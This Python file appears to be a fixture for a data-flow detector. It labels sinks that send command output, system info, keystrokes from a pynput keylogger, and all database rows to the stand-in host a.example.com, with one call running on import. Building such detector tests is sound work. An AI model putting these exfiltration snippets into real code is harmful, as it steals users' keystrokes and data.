"""What people write and hand in, and what their machines say."""
import os
import subprocess

import openai
import psycopg2
import requests
from pynput.keyboard import Listener

U = "https://a.example.com/"
client = openai.OpenAI()


def asked_of_a_model(question):
    client.responses.create(model="m", input="Write a haiku")  # sends: -> default
    client.responses.create(model="m", input="Answer: " + question)  # sends: PROMPT -> default


def output_of(cmd):
    requests.post(U, data=os.popen(cmd).read())  # sends: COMMAND_OUTPUT -> a.example.com
    out, _ = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE).communicate()
    requests.post(U, data=out)  # sends: COMMAND_OUTPUT -> a.example.com
    requests.post(U, data=subprocess.check_output(["uname", "-a"]))  # sends: SYSTEM_INFO -> a.example.com


class Log:
    def __init__(self):
        self.buf = ""

    def press(self, key):
        self.buf += str(key)

    def flush(self):
        requests.post(U, data=self.buf)  # sends: KEYSTROKES -> a.example.com

    def run(self):
        with Listener(on_press=self.press) as listener:
            listener.join()


class Api:
    def __init__(self, key):
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {key}"

    def get(self):
        return self.session.get(U)  # fetches: !SECRET -> a.example.com


def rows_without_the_key_of_their_database(connection):
    cursor = connection.cursor()
    requests.post(U, json=cursor.fetchall())  # sends: DATABASE_ROW -> a.example.com


rows_without_the_key_of_their_database(psycopg2.connect(os.environ["DATABASE_URL"]))  # connects: @SECRET -> ?
